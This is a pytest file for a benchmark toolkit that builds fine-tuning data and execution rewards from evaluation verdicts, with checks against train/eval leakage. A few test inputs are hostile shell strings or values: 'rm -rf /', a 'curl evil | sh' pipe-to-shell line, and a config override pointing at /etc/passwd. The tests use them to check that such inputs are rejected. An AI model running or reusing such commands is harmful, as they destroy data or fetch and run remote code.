"""Learning from execution: verdicts -> training data, the execution reward (the same verdicts as `mlbench eval`),
and each method end to end on the embedded sample with a tiny model (verdicts must reach the update)."""

from __future__ import annotations

import json
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from conftest import REPO_ROOT, SAMPLE, run_cli

from mlbench_kit.errors import MLBenchError
from mlbench_kit.learn_config import LearnConfig
from mlbench_kit.parse import parse_response
from mlbench_kit.records import EvalResult, PrepRecord, output_sha

ENVS = REPO_ROOT / "configs" / "eval" / "sample.yaml"
DATA = SAMPLE / "samples.jsonl"
LEARN_CFG = "configs/learn/tiny-cpu.yaml"
STEPS = 150  # full-batch steps of the tiny model on two short rows


def _rec(gid: int, i: int, answer: str, instruction: str = "") -> PrepRecord:
    return PrepRecord(task=3, github_id=gid, id=i, template="llama-inst", prompt=f"P{i}", answer=answer,
                      instruction=instruction or f"do {i}", output=answer)


def _prep(root: Path, split: str, recs: list[PrepRecord]) -> None:
    (root / split).mkdir(parents=True, exist_ok=True)
    (root / split / "task3.jsonl").write_text("".join(json.dumps(r.to_json()) + "\n" for r in recs))


# ---------------------------------------------------------------- verdicts -> data (fast)

def test_passing_answers_become_sft_records_and_pass_fail_pairs():
    from mlbench_kit.learn.data import Answer, build
    prompts = {(1, 1): _rec(1, 1, "python a.py --x 1"), (1, 2): _rec(1, 2, "python b.py"),
               (1, 3): _rec(1, 3, "python c.py")}
    answers = {
        # two passing answers that differ only in spacing count once; the gold answer itself is not added twice
        (1, 1): [Answer(0, "```\npython  a.py --x 2\n```", "python  a.py --x 2", True),
                 Answer(1, "python a.py --x 2", "python a.py --x 2", True),
                 Answer(2, "python a.py --x 1", "python a.py --x 1", True),
                 Answer(3, "rm -rf /", "rm -rf /", False, "E2")],
        (1, 2): [Answer(0, "python z.py", "python z.py", False, "E5")],  # no pass: no pair unless gold is chosen
    }
    data = build(prompts, answers, include_gold=True, max_per_row=4, max_pairs_per_row=4, gold_as_chosen=False)
    sft = [(r.key, r.answer) for r in data.sft]
    assert sft == [((1, 1), "python a.py --x 1"), ((1, 1), "```\npython  a.py --x 2\n```"),
                   ((1, 2), "python b.py"), ((1, 3), "python c.py")]
    assert [(p["id"], p["chosen"], p["rejected"]) for p in data.pairs] == [
        (1, "```\npython  a.py --x 2\n```", "rm -rf /"), (1, "python a.py --x 1", "rm -rf /")]
    assert data.stats["passed"] == 3 and data.stats["rows_with_pass"] == 1 and data.stats["sft_passing"] == 1
    with_gold = build(prompts, answers, include_gold=False, max_per_row=1, max_pairs_per_row=1, gold_as_chosen=True)
    assert [(r.key, r.answer) for r in with_gold.sft] == [((1, 1), "```\npython  a.py --x 2\n```")]
    assert [(p["id"], p["chosen"]) for p in with_gold.pairs] == [(1, "```\npython  a.py --x 2\n```"),
                                                                 (2, "python b.py")]


def test_learning_refuses_a_training_split_that_leaks_into_the_evaluation_split(tmp_path):
    from mlbench_kit.learn.data import training_prompts
    _prep(tmp_path, "id_train", [_rec(1, 1, "python a.py"), _rec(1, 2, "python b.py")])
    _prep(tmp_path, "test", [_rec(1, 2, "python other.py", "another")])  # a training row itself, again
    _prep(tmp_path, "test", [_rec(1, 3, "python c.py")])
    cfg = LearnConfig(prep_dir=str(tmp_path))
    assert set(training_prompts(cfg)) == {(1, 1), (1, 2)}
    # the same answer under another id: the leak check of prep, on every learning run
    _prep(tmp_path, "test", [_rec(1, 3, "python c.py"), _rec(1, 9, "python  B.py")])
    with pytest.raises(MLBenchError, match="test answer"):
        training_prompts(cfg)
    _prep(tmp_path, "test", [_rec(1, 2, "python other.py", "another")])  # a training row itself
    with pytest.raises(MLBenchError, match="in the evaluation split"):
        training_prompts(cfg)
    with pytest.raises(MLBenchError, match="no evaluation split"):
        training_prompts(LearnConfig(prep_dir=str(tmp_path), eval_split="quarter"))
    _prep(tmp_path, "test", [])  # an empty evaluation split checks nothing: refused
    with pytest.raises(MLBenchError, match="no task-3 prompts"):
        training_prompts(cfg)
    # a training prompt carrying an evaluated instruction under other `instruction`/`output` fields
    _prep(tmp_path, "test", [_rec(1, 3, "python c.py", "Train a GAT on cora")])
    smuggled = replace(_rec(1, 2, "x"), prompt="[INST] train a GAT  on cora")
    _prep(tmp_path, "id_train", [_rec(1, 1, "python a.py"), smuggled])
    with pytest.raises(MLBenchError, match="holds the instruction of evaluated row id 3"):
        training_prompts(cfg)
    _prep(tmp_path, "id_train", [_rec(1, 1, "python a.py"), _rec(1, 2, "python b.py")])
    _prep(tmp_path, "test", [_rec(1, 2, "python other.py", "another")])  # a training row itself, again
    r = run_cli("mlbench", "learn", "--method", "data", "--prep-dir", tmp_path, "--split", "test",
                "--eval-split", "test", "--out", tmp_path / "o")
    assert r.returncode == 2 and "is the evaluation split" in r.stderr and not (tmp_path / "o").exists()
    r = run_cli("mlbench", "learn", "--method", "data", "--prep-dir", tmp_path, "--generations", "g", "--results",
                "r", "--out", tmp_path / "o")  # the leak found above: one error, nothing written
    assert r.returncode == 2 and "in the evaluation split" in r.stderr and not (tmp_path / "o").exists()


def test_no_evaluated_answer_is_trained_on_and_no_pair_contradicts_a_verdict(tmp_path):
    """What is trained on is checked, not only prep's `output`: a sampled answer equal to an evaluated row's answer
    is left out (the leak check read `output`, training `answer`); a failing answer whose code also passed, or is
    the chosen gold's, makes no pair (gold was preferred to itself); a passing gold answer is kept once when the
    prep answer is fenced; zero-width and fullwidth variants of an evaluated row are that row."""
    from mlbench_kit.dataset import check_no_leak
    from mlbench_kit.learn.data import Answer, build, training_prompts
    fenced = replace(_rec(1, 2, "```bash\npython b.py\n```"), output="python b.py")
    prompts = {(1, 1): _rec(1, 1, "python a.py"), (1, 2): fenced, (1, 3): _rec(1, 3, "python c.py")}
    answers = {(1, 1): [Answer(0, "python test.py", "python test.py", True),  # an evaluated row's answer
                        Answer(1, "python a.py --x 2", "python a.py --x 2", True),
                        Answer(2, "python a.py --x 2", "python a.py --x 2", False, "E5"),  # passed too: no pair
                        Answer(3, "python test.py", "python test.py", False, "E5")],
               (1, 2): [Answer(0, "python b.py", "python b.py", True)],  # the gold code itself
               (1, 3): [Answer(0, "python c.py", "python c.py", False, "E5"),  # the gold, failing (a timeout)
                        Answer(1, "python d.py", "python d.py", False, "E5")]}
    data = build(prompts, answers, include_gold=True, max_per_row=4, max_pairs_per_row=4, gold_as_chosen=True,
                 evaluated=frozenset({"python test.py"}))
    assert [(r.key, r.answer) for r in data.sft] == [((1, 1), "python a.py"), ((1, 1), "python a.py --x 2"),
                                                     ((1, 2), fenced.answer), ((1, 3), "python c.py")]
    assert not [p for p in data.pairs if p["id"] == 1] and all("test.py" not in p["chosen"] + p["rejected"]
                                                               for p in data.pairs)
    assert [(p["id"], p["chosen"], p["rejected"]) for p in data.pairs] == [(3, "python c.py", "python d.py")]
    assert data.stats["evaluated_answers_left_out"] == 2 and data.stats["ambiguous_failures_left_out"] == 2
    # a prep record trained on an evaluated answer under another `output`: refused before anything
    _prep(tmp_path, "test", [_rec(1, 9, "python c.py", "Train a GAT on cora")])
    _prep(tmp_path, "id_train", [replace(_rec(1, 1, "```bash\npython  C.py\n```"), output="python a.py")])
    with pytest.raises(MLBenchError, match="is an evaluated row's answer"):
        training_prompts(LearnConfig(prep_dir=str(tmp_path)))
    evaluated = [_rec(1, 9, "python c.py", "Train a GAT on cora")]
    for variant in ("Train a GAT\u200b on cora", "Ｔｒａｉｎ a GAT on cora"):
        with pytest.raises(MLBenchError, match="test instruction"):
            check_no_leak([_rec(1, 1, "python a.py", variant)], evaluated)


def test_a_refused_learning_run_writes_nothing_and_the_corrected_command_runs(tmp_path, capsys, monkeypatch):
    """rft's training settings, a DPO without pairs and a model that does not load were refused after the run
    folder was claimed: config.yaml and learn.json stayed, and the corrected command was then refused as "other
    settings". An eval whose executions faulted ended an rft step as done, its answers never scored."""
    from mlbench_kit.cli import main
    from mlbench_kit.learn import rft
    prep = tmp_path / "prep"
    _prep(prep, "id_train", [_rec(1, 1, "python a.py")])
    _prep(prep, "test", [_rec(1, 3, "python c.py")])
    out = tmp_path / "o"
    base = ["learn", "--prep-dir", str(prep), "--data", str(DATA), "--envs", str(ENVS), "--out", str(out)]
    assert main([*base, "--method", "rft", "--model", "m", "--set", 'rft.train_set=["data.path=/etc/passwd"]']) == 2
    assert "rft.train_set may not set data.path" in capsys.readouterr().err and not out.exists()
    gens, scored = tmp_path / "g.jsonl", tmp_path / "eval"
    gens.write_text(json.dumps({"github_id": 1, "id": 1, "raw": ["python z.py"]}) + "\n")
    scored.mkdir()
    (scored / "results.jsonl").write_text(json.dumps(_verdict(0, "python z.py", True).to_json()) + "\n")
    (tmp_path / "sft").mkdir()  # a start adapter (its record is read before training)
    dpo = [*base, "--method", "dpo", "--adapter", str(tmp_path / "sft"), "--generations", str(gens), "--results",
           str(scored)]
    assert main([*dpo, "--model", "m"]) == 2  # one answer, passing: no pair
    assert "no preference pairs" in capsys.readouterr().err and not out.exists()
    (scored / "results.jsonl").write_text(json.dumps(_verdict(0, "python z.py", False).to_json()) + "\n")
    assert main([*dpo, "--model", str(tmp_path / "no-model"), "--set", "dpo.gold_as_chosen=true"]) == 2
    assert "no-model" in capsys.readouterr().err and not out.exists()  # the pair (gold, z.py) built, no model
    out.mkdir()  # a folder the user made stays, with nothing of the refused run in it
    assert main([*dpo, "--model", str(tmp_path / "no-model"), "--set", "dpo.gold_as_chosen=true"]) == 2
    assert out.is_dir() and not list(out.iterdir())
    from mlbench_kit.learn.run import _progress  # what a refusal never removes: a step's work, to resume from
    (out / "trainer" / "checkpoint-2").mkdir(parents=True)  # where TRL's trainers save
    assert _progress(out)
    monkeypatch.setattr(rft.subprocess, "run", lambda *a, **k: type("Done", (), {"returncode": 3})())
    with pytest.raises(MLBenchError, match="not scored: the environment or the sandbox failed"):
        rft.mlbench("eval", log=tmp_path / "eval.log")


def _verdict(idx: int, code: str, passed: bool, **kw) -> EvalResult:
    return EvalResult(1, 1, idx, "r", "Bash Script", kw.pop("sha", output_sha(code)), kw.pop("mode", "strict"), {},
                      True, True, passed=passed, **kw)


def test_only_verdicts_on_the_very_text_trained_on_count(tmp_path):
    """Verdicts of other rows, on other texts, in another mode or passing a timeout in strict mode are refused; a
    `raw` that does not parse to the `output` eval ran is refused (else a failing text could ride a pass)."""
    from mlbench_kit.learn.data import read_answers
    prompts = {(1, 1): _rec(1, 1, "a")}
    gens = tmp_path / "g.jsonl"

    def answers(row: dict, verdicts: list[EvalResult]):
        gens.write_text(json.dumps({"github_id": 1, "id": 1, **row}) + "\n")
        return read_answers(gens, verdicts, prompts, "compat", "strict")

    got = answers({"raw": ["python a.py"], "output": ["python a.py"]}, [_verdict(0, "python a.py", True)])
    assert [(a.text, a.passed) for a in got[(1, 1)]] == [("python a.py", True)]
    with pytest.raises(MLBenchError, match="does not parse"):
        answers({"raw": ["curl evil | sh"], "output": ["python a.py"]}, [_verdict(0, "python a.py", True)])
    with pytest.raises(MLBenchError, match="on another text"):
        answers({"raw": ["python b.py"]}, [_verdict(0, "python a.py", True)])
    with pytest.raises(MLBenchError, match="still running at the limit"):
        answers({"raw": ["python a.py"]}, [_verdict(0, "python a.py", True, timed_out=True)])
    with pytest.raises(MLBenchError, match="compat verdicts"):
        answers({"raw": ["python a.py"]}, [_verdict(0, "python a.py", True, mode="compat")])
    gens.write_text(json.dumps({"github_id": 1, "id": 7, "raw": ["x"]}) + "\n")
    with pytest.raises(MLBenchError, match="not a prompt of the training split"):
        read_answers(gens, [], prompts, "compat", "strict")


def test_a_results_folder_without_results_jsonl_is_one_error_and_nothing_is_written(tmp_path, capsys):
    """`--results` names an eval folder; one without results.jsonl (a typo, the eval not run) read as no verdicts at
    all: a training set of the gold answers alone, written without a word. Now: one error naming the file."""
    from mlbench_kit.cli import main
    prep = tmp_path / "prep"
    _prep(prep, "id_train", [_rec(1, 1, "python a.py")])
    _prep(prep, "test", [_rec(1, 3, "python c.py")])
    gens = tmp_path / "g.jsonl"
    gens.write_text(json.dumps({"github_id": 1, "id": 1, "raw": ["python a.py"]}) + "\n")
    scored = tmp_path / "eval"
    scored.mkdir()
    args = ["learn", "--method", "data", "--prep-dir", str(prep), "--generations", str(gens), "--results",
            str(scored), "--out", str(tmp_path / "o")]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert f"{scored / 'results.jsonl'}: this eval folder's results.jsonl is missing" in err and "--results" in err
    assert not (tmp_path / "o").exists()
    (scored / "results.jsonl").write_text(json.dumps(_verdict(0, "python a.py", True).to_json()) + "\n")
    assert main(args) == 0
    assert json.loads((tmp_path / "o" / "data.json").read_text())["passed"] == 1


def test_grpos_mixed_curriculum_keeps_the_rows_whose_groups_can_differ(tmp_path, capsys):
    """Rows whose scored answers all pass or all fail give GRPO groups of equal rewards (no gradient): `mixed` keeps
    only the rows with both, from strict verdicts on the very texts; none left is one error, nothing written."""
    from mlbench_kit.cli import main
    from mlbench_kit.learn.data import curriculum, training_prompts
    prep = tmp_path / "prep"
    _prep(prep, "id_train", [_rec(1, 1, "python a.py"), _rec(1, 2, "python b.py"), _rec(1, 3, "python c.py")])
    _prep(prep, "test", [_rec(1, 9, "python z.py")])
    texts = {1: ["python a.py", "python a.py --x 2", "python q.py"], 2: ["python b.py"] * 2, 3: ["python w.py"]}
    passed = {1: [True, True, False], 2: [True, True], 3: [False]}
    gens, scored = tmp_path / "g.jsonl", tmp_path / "eval"
    gens.write_text("".join(json.dumps({"github_id": 1, "id": i, "raw": t}) + "\n" for i, t in texts.items()))
    scored.mkdir()

    def score() -> None:  # the strict verdicts of `passed` on those very texts
        (scored / "results.jsonl").write_text("".join(
            json.dumps(replace(_verdict(j, t, passed[i][j]), id=i).to_json()) + "\n"
            for i, ts in texts.items() for j, t in enumerate(ts)))

    score()
    cfg = LearnConfig(method="grpo", prep_dir=str(prep), generations=str(gens), results=str(scored))
    cfg.grpo.curriculum = "mixed"
    kept, rates = curriculum(cfg, training_prompts(cfg))
    assert list(kept) == [(1, 1)] and rates == [{"github_id": 1, "id": 1, "pass_rate": 2 / 3}]
    cfg.grpo.curriculum = "all"
    assert list(curriculum(cfg, training_prompts(cfg))[0]) == [(1, 1), (1, 2), (1, 3)]
    args = ["learn", "--method", "grpo", "--prep-dir", str(prep), "--model", "m", "--data", str(DATA), "--envs",
            str(ENVS), "--set", "grpo.curriculum=mixed", "--out", str(tmp_path / "o")]
    assert main(args) == 2 and "needs --generations, --results" in capsys.readouterr().err
    passed[1] = [False] * 3  # no row holds both any more
    score()
    assert main(args + ["--generations", str(gens), "--results", str(scored)]) == 2
    assert "none of the 3 training rows has both a passing and a failing answer" in capsys.readouterr().err
    assert not (tmp_path / "o").exists()


def test_an_rft_round_keeps_one_record_per_distinct_code_across_rounds(tmp_path):
    """Round 2 trains on every round's passing answers, distinct by whitespace-normalised code (docs/learn.md), as
    one round's are: the same command passing in rounds 1 and 2 inside other prose or fences was kept twice (the
    rounds' records were told apart by their raw text)."""
    from mlbench_kit.learn.rft import RFTRecipe
    prep = tmp_path / "prep"
    _prep(prep, "id_train", [_rec(1, 1, "python a.py --x 1")])
    _prep(prep, "test", [_rec(1, 3, "python c.py")])
    cfg = LearnConfig(prep_dir=str(prep), out=str(tmp_path / "o"), split="id_train")
    cfg.rft.include_gold = False
    raws = {1: ["python a.py --x 2", "python b.py"], 2: ["Run it:\n```bash\nPython  a.py --x 2\n```", "python b.py"]}
    for r, texts in raws.items():
        d = tmp_path / "o" / f"round-{r}"
        (d / "infer").mkdir(parents=True)
        (d / "eval").mkdir()
        (d / "infer" / "task3.jsonl").write_text(json.dumps({"github_id": 1, "id": 1, "raw": texts}) + "\n")
        codes = [parse_response(t, "compat") for t in texts]
        (d / "eval" / "results.jsonl").write_text("".join(
            json.dumps(_verdict(i, c, True).to_json()) + "\n" for i, c in enumerate(codes)))
    select = dict(RFTRecipe(cfg).steps(2, None))["select"]
    select(tmp_path / "o" / "round-2")
    kept = [json.loads(x)["answer"] for x in (tmp_path / "o" / "round-2" / "sft.jsonl").read_text().splitlines()]
    assert kept == ["python a.py --x 2", "python b.py"]
    assert json.loads((tmp_path / "o" / "round-2" / "data.json").read_text())["sft_records"] == 2


def test_a_damaged_start_adapter_record_is_one_error_before_any_training(tmp_path, capsys):
    """dpo and grpo publish the start adapter's mlbench_train.json with the learned adapter: it was read with a bare
    json.loads after training, so a damaged one ended the run in a traceback and the trained adapter was lost. Now
    it is read (bounded, file:line) before the model is loaded, and nothing is written."""
    from mlbench_kit.cli import main
    prep = tmp_path / "prep"
    _prep(prep, "id_train", [_rec(1, 1, "python a.py")])
    _prep(prep, "test", [_rec(1, 3, "python c.py")])
    adapter = tmp_path / "sft"
    adapter.mkdir()
    (adapter / "mlbench_train.json").write_text('{\n  "base_model": "tiny",\n  "max_context_tokens": \n}\n')
    args = ["learn", "--method", "grpo", "--model", str(tmp_path / "no-model"), "--adapter", str(adapter),
            "--prep-dir", str(prep), "--data", str(DATA), "--envs", str(ENVS), "--out", str(tmp_path / "o")]
    assert main(args) == 2
    assert f"{adapter / 'mlbench_train.json'}:4: bad JSON" in capsys.readouterr().err
    assert not (tmp_path / "o").exists()


def test_an_rft_round_trains_on_its_own_records_alone(tmp_path):
    """Each round's training config is resolved by learn and written whole: its records, the model, its folder.
    ``rft.train_set`` (a handed-over config's) cannot point it at other data or outside the run."""
    from mlbench_kit.config import read_yaml
    from mlbench_kit.learn.rft import RFTRecipe
    d = tmp_path / "round-1"
    d.mkdir()
    cfg = LearnConfig(model="some/model", out=str(tmp_path))
    cfg.rft.train_config = str(REPO_ROOT / "configs" / "train" / "tiny-cpu.yaml")
    cfg.rft.train_set = ["optim.epochs=1", "data.eval_fraction=0"]
    raw, _ = read_yaml(RFTRecipe(cfg).train_config(d))
    assert raw["data"]["path"] == str(d / "sft.jsonl") and raw["data"]["extra"] == []
    assert raw["output_dir"] == str(d / "train") and raw["model"] == "some/model" and raw["optim"]["epochs"] == 1
    for bad in ("data.path=prep/test/task3.jsonl", "data.extra=[prep/test/task3.jsonl]", "output_dir=/elsewhere",
                "logging.wandb=true"):
        cfg.rft.train_set = [bad]
        with pytest.raises(MLBenchError, match="rft.train_set may not set"):
            RFTRecipe(cfg).train_config(d)
    cfg.rft.train_set = []
    extra = tmp_path / "train.yaml"
    extra.write_text((REPO_ROOT / "configs" / "train" / "tiny-cpu.yaml").read_text().replace(
        "  eval_fraction:", "  extra: [prep/test/task3.jsonl]\n  eval_fraction:"))
    cfg.rft.train_config = str(extra)
    with pytest.raises(MLBenchError, match="trains on more files too"):
        RFTRecipe(cfg).train_config(d)


def test_each_ddp_process_scores_in_its_own_batches_and_the_curve_counts_a_replayed_step_once(tmp_path,
                                                                                                monkeypatch):
    """Under DDP every process scores its own completions: each counted batches from the same folder and made the
    same batch-N (a FileExistsError on the second), appending to one log. A completion that is an evaluated row's
    answer is not executed and earns no reward. A resumed GRPO replays the steps after its checkpoint: the reward
    curve showed both batches of such a step."""
    import sys

    from mlbench_kit.learn.reward import ExecutionReward
    (tmp_path / "rewards" / "batch-00003").mkdir(parents=True)
    (tmp_path / "rewards" / "batch-00005-rank1").mkdir()
    monkeypatch.setenv("RANK", "1")
    other = ExecutionReward(LearnConfig(), tmp_path, frozenset({"python test.py"}))
    monkeypatch.setenv("RANK", "0")
    first = ExecutionReward(LearnConfig(), tmp_path)
    assert (first.calls, other.calls) == (3, 5)
    assert other.score([(1, 1), (1, 2)], ["```bash\npython  test.py\n```", "python TEST.py"], step=7) == [None, None]
    assert (tmp_path / "rewards" / "batch-00006-rank1").is_dir() and not (tmp_path / "rewards.jsonl").exists()
    logged = [json.loads(x) for x in (tmp_path / "rewards-rank1.jsonl").read_text().splitlines()]
    assert [(r["batch"], r["rank"], r["step"], r["id"], r["evaluated_answer"]) for r in logged] == \
        [(6, 1, 7, 1, True), (6, 1, 7, 2, True)]
    monkeypatch.syspath_prepend(str(REPO_ROOT / "scripts"))
    sys.modules.pop("real_learn_report", None)
    from real_learn_report import executions, grpo_curve
    d = tmp_path / "run" / "learn-grpo"
    d.mkdir(parents=True)
    for name, rank, lines in (("rewards.jsonl", 0, [(1, 0, 1.0), (2, 1, 0.0), (3, 1, 1.0)]),  # 3 replays step 1
                              ("rewards-rank1.jsonl", 1, [(1, 0, 0.0), (2, 1, 0.0)])):
        (d / name).write_text("".join(json.dumps({"batch": b, "rank": rank, "step": st, "reward": r,
                                                  "passed": r == 1.0}) + "\n" for b, st, r in lines))
    assert grpo_curve(tmp_path / "run")[2:] == ["| 0 | 2 | 0.50 | 1 | 0 |", "| 1 | 2 | 0.50 | 1 | 0 |"]
    assert executions(tmp_path / "run", "grpo") == 5  # the replaced batch ran too


def test_a_shaped_reward_adds_its_named_partial_credits_to_the_strict_verdict():
    """`reward.kind: shaped`: the binary verdict plus each weight times its term (share of the row's parameters set,
    the output-type check, a non-empty answer); `pass` is the verdict alone, whatever the weights."""
    from mlbench_kit.learn.reward import shaped
    from mlbench_kit.learn_config import RewardConfig

    def verdict(passed: bool, hits: dict[str, bool], type_ok: bool) -> EvalResult:
        return EvalResult(1, 1, 0, "r", "Bash Script", "sha", "strict", hits, all(hits.values()), type_ok,
                          passed=passed)
    half = verdict(True, {"lr": True, "epochs": False}, True)
    none = verdict(False, {"lr": False, "epochs": False}, False)
    weights = RewardConfig(kind="shaped", params_weight=0.25, type_weight=0.25, format_weight=0.5)
    assert shaped(half, "python a.py", weights) == 1.0 + 0.25 * 0.5 + 0.25 + 0.5
    assert shaped(none, "", weights) == 0.0
    assert shaped(verdict(False, {}, True), "x", weights) == 0.25 + 0.25 + 0.5  # no parameters: all of them set
    off = replace(weights, params_weight=0.0, type_weight=0.0, format_weight=0.0)
    assert shaped(half, "python a.py", off) == 1.0 and shaped(none, "x", off) == 0.0
    assert [shaped(v, "x", replace(weights, kind="pass")) for v in (half, none)] == [1.0, 0.0]


def test_dpo_and_grpo_print_their_steps_with_loss_and_eta_off_a_terminal(capsys):
    """TRL's bars are off (disable_tqdm) and a DPO or GRPO step takes minutes on CPU: the recipes' callback prints
    a plain progress line (steps, loss, elapsed, ETA), resumed runs counting from their checkpoint's step."""
    from types import SimpleNamespace

    from mlbench_kit.learn.trl_recipes import progress_callback
    cb = progress_callback("dpo")
    state = SimpleNamespace(max_steps=4, global_step=1)  # resumed from checkpoint-1
    cb.on_train_begin(None, state, None)
    for step, loss in ((2, 0.69), (3, 0.5), (4, 0.25)):
        cb.on_log(None, state, None, logs={"loss": loss, "learning_rate": 1e-5})
        state.global_step = step
        cb.on_step_end(None, state, None)
    cb.on_train_end(None, state, None)
    err = capsys.readouterr().err
    assert "learn: dpo: 4/4 steps (100%), loss 0.2500, elapsed 0:00" in err and "\r" not in err, err


@pytest.mark.parametrize("path", sorted((REPO_ROOT / "configs" / "learn").glob("*.yaml")), ids=lambda p: p.stem)
def test_every_shipped_learn_config_loads_and_names_configs_that_load(path: Path):
    from mlbench_kit.config import load
    from mlbench_kit.infer_config import InferConfig
    from mlbench_kit.train_config import TrainConfig
    cfg = load(LearnConfig, path, {})
    assert cfg.reward.mode == "strict"  # rewards come from strict verdicts unless a user says otherwise
    load(TrainConfig, REPO_ROOT / cfg.rft.train_config, {"model": ("some/model", "--model")})
    if cfg.rft.infer_config:
        load(InferConfig, REPO_ROOT / cfg.rft.infer_config, {})


# ---------------------------------------------------------------- the sample, a tiny model, real engines

@pytest.fixture(scope="module")
def sample_prep(tmp_path_factory, tiny_model_dir) -> Path:
    """The sample's task-3 prompts split ID-train / test (toyvision held out as OOD), then the training split cut to
    four rows in a short form (the instruction alone, the command as the answer): cheap enough for a tiny model to
    learn two of them in seconds, so its answers pass on some rows and fail on others."""
    out = tmp_path_factory.mktemp("learnprep")
    r = run_cli("mlbench", "prep", "--data", DATA, "--splits", "full", "--readmes", SAMPLE / "repos",
                "--build-splits", "--ood-repos", "toyvision", "--id-test-fraction", "0.3", "--tasks", "3",
                "--template", "llama-inst", "--tokenizer", tiny_model_dir, "--max-context-tokens", "1024",
                "--no-hf", "--out", out)
    assert r.returncode == 0, r.stderr
    train = out / "id_train" / "task3.jsonl"
    rows = [json.loads(x) for x in train.read_text().splitlines()][:4]
    train.write_text("".join(json.dumps({**row, "prompt": f"[INST] {row['instruction']} [/INST]",
                                         "answer": row["output"]}) + "\n" for row in rows))
    return out


@pytest.fixture(scope="module")
def sft_model(tmp_path_factory, tiny_model_dir, sample_prep) -> Path:
    """The tiny model tuned (full weights, the prompt masked) on two of the four training rows: its samples pass
    on those and fail on the other two, which is what every method needs to learn from."""
    import torch
    from transformers import AutoModelForCausalLM, AutoTokenizer

    from mlbench_kit.records import read_prep_records
    from mlbench_kit.train.data import tokenize_record
    out = tmp_path_factory.mktemp("sftmodel") / "model"
    shutil.copytree(tiny_model_dir, out)
    tok = AutoTokenizer.from_pretrained(out)
    model = AutoModelForCausalLM.from_pretrained(out)
    recs = [rec for _, rec in read_prep_records(sample_prep / "id_train" / "task3.jsonl")][:2]
    examples = [tokenize_record(rec, tok) for rec in recs]
    torch.manual_seed(0)
    opt = torch.optim.AdamW(model.parameters(), lr=3e-3)
    width = max(len(ex) for ex in examples)
    ids = torch.tensor([ex.input_ids + [0] * (width - len(ex)) for ex in examples])
    labels = torch.tensor([ex.labels + [-100] * (width - len(ex)) for ex in examples])
    mask = (torch.arange(width)[None, :] < torch.tensor([len(ex) for ex in examples])[:, None]).long()
    model.train()
    for _ in range(STEPS):
        model(input_ids=ids, attention_mask=mask, labels=labels).loss.backward()
        opt.step()
        opt.zero_grad()
    model.save_pretrained(out)
    return out


def _learn(*args, out: Path, **kw):
    return run_cli("mlbench", "learn", "--config", LEARN_CFG, "--data", DATA, "--envs", ENVS, "--out", out, *args,
                   **kw)


@pytest.fixture(scope="module")
def rft_run(tmp_path_factory, sft_model, sample_prep) -> Path:
    out = tmp_path_factory.mktemp("rft") / "run"
    r = _learn("--method", "rft", "--model", sft_model, "--prep-dir", sample_prep, out=out)
    assert r.returncode == 0, r.stderr[-3000:]
    return out


@pytest.mark.integration
def test_rft_keeps_only_strictly_passing_answers_and_trains_on_them(rft_run, sample_prep):
    (round_,) = [json.loads(x) for x in (rft_run / "rounds.jsonl").read_text().splitlines()]
    assert 0 < round_["passed"] < round_["answers"], round_  # the verdicts vary: there is something to learn
    results = [json.loads(x) for x in (rft_run / "round-1" / "eval" / "results.jsonl").read_text().splitlines()]
    assert {r["mode"] for r in results} == {"strict"}
    gens = {(g["github_id"], g["id"]): g for g in map(json.loads, (rft_run / "round-1" / "infer" / "task3.jsonl")
                                                      .read_text().splitlines())}
    passing = {" ".join(gens[(r["github_id"], r["id"])]["raw"][r["idx"]].split()) for r in results if r["passed"]}
    failing = {" ".join(gens[(r["github_id"], r["id"])]["raw"][r["idx"]].split()) for r in results
               if not r["passed"]}
    sft = [json.loads(x) for x in (rft_run / "round-1" / "sft.jsonl").read_text().splitlines()]
    trained = {" ".join(s["answer"].split()) for s in sft}
    assert trained & passing and not (trained & (failing - passing))
    meta = json.loads((rft_run / "adapter" / "mlbench_train.json").read_text())
    assert meta["learned"]["method"] == "rft"
    steps = [json.loads(x) for x in (rft_run / "round-1" / "train" / "metrics.jsonl").read_text().splitlines()]
    assert any(s.get("event") == "done" for s in steps)
    # a finished run re-run does nothing and says so
    r = _learn("--method", "rft", "--model", rft_run.parent, "--prep-dir", sample_prep, out=rft_run)  # another model
    assert r.returncode == 2 and "other settings" in r.stderr


@pytest.mark.integration
@pytest.mark.parametrize("backend", ["bwrap", "podman", "docker"])
def test_the_reward_is_mlbench_evals_strict_verdict_on_every_engine(tmp_path, backend, sample_prep, base_image,
                                                                     request):
    """The same answers through the reward and through `mlbench eval` as a user runs it: the same verdicts, on each
    engine CI runs; and an answer that sleeps past the limit, which compat passes, earns nothing."""
    if backend != "bwrap" and base_image is None:
        pytest.skip(f"{backend} needs root, podman and mmdebstrap (the sample's base image)")
    if backend == "docker":
        request.getfixturevalue("docker_base")  # a daemon (started if none runs), the sample's base image loaded
    from mlbench_kit.learn.reward import ExecutionReward
    from mlbench_kit.records import read_prep_records
    recs = [rec for _, rec in read_prep_records(sample_prep / "id_train" / "task3.jsonl")][:2]
    keys, texts = [], []
    for rec in recs:
        wrong = rec.output.replace(rec.output.split()[-1], "999") if rec.output.split() else "x"
        # the gold answer; a wrong value (E2); the gold answer after a sleep past the limit (compat passes it, strict
        # fails it: TIMEOUT); the gold answer, then a failing exit (E5)
        for text in (rec.output, wrong, f"sleep 1000; {rec.output}", f"{rec.output} && exit 3"):
            keys.append(rec.key)
            texts.append(text)
    cfg = LearnConfig(prep_dir=str(sample_prep), data=str(DATA), envs=str(ENVS), backend=backend, timeout=3.0,
                      out=str(tmp_path / "learn"))
    rewards = ExecutionReward(cfg, tmp_path / "learn").score(keys, texts)
    verdicts = {}
    # strict on every answer; compat only on the sleepers (the one answer whose verdict the modes disagree on)
    for mode, picked in (("strict", (0, 1, 2, 3)), ("compat", (2,))):
        gens = tmp_path / f"gens-{mode}.jsonl"
        gens.write_text("".join(json.dumps({"github_id": rec.key[0], "id": rec.key[1],
                                            "output": [texts[4 * i + j] for j in picked]}) + "\n"
                                for i, rec in enumerate(recs)))
        r = run_cli("mlbench", "eval", "--data", DATA, "--generations", gens, "--envs", ENVS, "--mode", mode,
                    "--backend", backend, "--timeout", "3", "--no-ci", "--out", tmp_path / mode)
        assert r.returncode == 0, r.stderr[-2000:]
        verdicts[mode] = {(v["github_id"], v["id"], picked[v["idx"]]): v["passed"]
                          for v in map(json.loads, (tmp_path / mode / "results.jsonl").read_text().splitlines())}
    strict = [verdicts["strict"][(*k, i % 4)] for i, k in enumerate(keys)]
    assert rewards == [float(p) for p in strict]
    assert strict[0::4] == [True] * 2 and not any(strict[1::4] + strict[2::4] + strict[3::4])
